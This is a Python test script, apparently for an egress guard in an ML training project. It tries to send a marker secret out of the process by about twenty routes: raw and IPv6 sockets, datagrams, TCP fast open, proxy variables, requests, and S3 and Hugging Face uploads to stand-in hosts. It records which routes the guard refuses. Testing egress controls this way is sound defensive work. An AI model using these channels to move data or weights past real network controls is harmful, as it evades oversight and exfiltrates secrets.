"""Ways out of a process, each tried: `python ways_out.py guarded|open NAME ...` prints what became of each, as JSON.

Guarded it stands under the guard, with a policy that allows allowed.example:443, and pins pinned.example to a network
that it does not lead to.
"""

from __future__ import annotations

import asyncio
import http.client
import json
import os
import socket
import sys
import urllib.request
from collections.abc import Callable

from tests.rigs.outside import WORLD, WORLD6

POLICY = {
    "name": "test",
    "hosts": ["allowed.example", "pinned.example"],
    "addresses": {"pinned.example": ["192.0.2.0/24"]},
}


def send(secret: bytes, family: socket.AddressFamily, address: tuple[str, int]) -> None:
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect(address)
        sock.sendall(secret)


def by_name(secret: bytes, name: str, port: int = 443) -> None:
    with socket.create_connection((name, port), timeout=5) as sock:
        sock.sendall(secret)


def without_a_look_up(secret: bytes, name: str) -> None:
    send(secret, socket.AF_INET, (name, 443))


def datagram(secret: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(secret, (WORLD, 443))


def message(secret: bytes) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.sendmsg([secret], [], 0, (WORLD6, 443))


def connected_datagram(secret: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        assert sock.connect_ex((WORLD, 8080)) == 0
        sock.send(secret)


def fast_open(secret: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.sendto(secret, socket.MSG_FASTOPEN, (WORLD, 443))


def plain_http(secret: bytes, host: str) -> None:
    connection = http.client.HTTPConnection(host, timeout=5)
    connection.request("POST", "/", secret)


def through_proxy(secret: bytes, variable: str) -> None:
    os.environ[variable] = f"http://{WORLD}:3128"
    try:
        urllib.request.urlopen("http://allowed.example/", data=secret, timeout=1)
    finally:
        del os.environ[variable]


def requests_through_proxy(secret: bytes) -> None:
    import requests

    os.environ["ALL_PROXY"] = f"http://{WORLD}:3128"
    try:
        requests.post("http://allowed.example/", data=secret, timeout=1)
    finally:
        del os.environ["ALL_PROXY"]


def with_asyncio(secret: bytes) -> None:
    async def talk() -> None:
        _, writer = await asyncio.open_connection(WORLD, 443)
        writer.write(secret)
        await writer.drain()
        writer.close()

    asyncio.run(talk())


def s3(secret: bytes) -> None:
    import botocore.config
    import botocore.session

    config = botocore.config.Config(retries={"max_attempts": 0}, read_timeout=1, s3={"addressing_style": "path"})
    client = botocore.session.get_session().create_client(
        "s3",
        endpoint_url="http://foreign.example",
        region_name="any",
        aws_access_key_id="any",
        aws_secret_access_key="any",
        config=config,
    )
    client.put_object(Bucket="bucket", Key="object", Body=secret)


def hugging_face(secret: bytes) -> None:
    import huggingface_hub

    api = huggingface_hub.HfApi(endpoint="http://foreign.example", token="hf_none")
    api.upload_file(path_or_fileobj=secret, path_in_repo="weights", repo_id="some/model")


def requests_post(secret: bytes) -> None:
    import requests

    requests.post("http://foreign.example/", data=secret, timeout=1)


WAYS: dict[str, Callable[[bytes], object]] = {
    "an allowed host": lambda secret: by_name(secret, "allowed.example"),
    "IPv4 literal": lambda secret: send(secret, socket.AF_INET, (WORLD, 443)),
    "IPv6 literal": lambda secret: send(secret, socket.AF_INET6, (WORLD6, 443)),
    "IPv4 in IPv6": lambda secret: send(secret, socket.AF_INET6, (f"::ffff:{WORLD}", 443)),
    "another name": lambda secret: by_name(secret, "foreign.example"),
    "a name that the socket looks up": lambda secret: without_a_look_up(secret, "foreign.example"),
    "an old look-up": lambda secret: send(secret, socket.AF_INET, (socket.gethostbyname("foreign.example"), 443)),
    "an allowed name that leads elsewhere": lambda secret: by_name(secret, "pinned.example"),
    "an allowed name that the socket looks up": lambda secret: without_a_look_up(secret, "pinned.example"),
    "another port of an allowed host": lambda secret: by_name(secret, "allowed.example", 8080),
    "plain http to an allowed host": lambda secret: plain_http(secret, "allowed.example"),
    "a proxy in http_proxy": lambda secret: through_proxy(secret, "http_proxy"),
    "a proxy in ALL_PROXY": requests_through_proxy,
    "a datagram": datagram,
    "a message": message,
    "a connected datagram": connected_datagram,
    "TCP fast open": fast_open,
    "asyncio": with_asyncio,
    "requests": requests_post,
    "another S3 host": s3,
    "a Hugging Face upload": hugging_face,
}


def secret_of(name: str) -> bytes:
    """What a way sends: each its own, to be recognized where it arrives."""
    return f"<{name}>".encode()


def attempt(name: str) -> str:
    from aiftrain.run.egress import EgressError

    try:
        WAYS[name](secret_of(name))
        return "sent"
    except EgressError as error:
        return f"refused: {error}"
    except Exception as error:
        return f"{type(error).__name__}: {error}"


if __name__ == "__main__":
    if sys.argv[1] == "guarded":
        from aiftrain.run.egress import Guard, install
        from aiftrain.run.policy import PolicySpec

        install(Guard(PolicySpec.model_validate(POLICY)))
    print(json.dumps({name: attempt(name) for name in sys.argv[2:] or WAYS}))
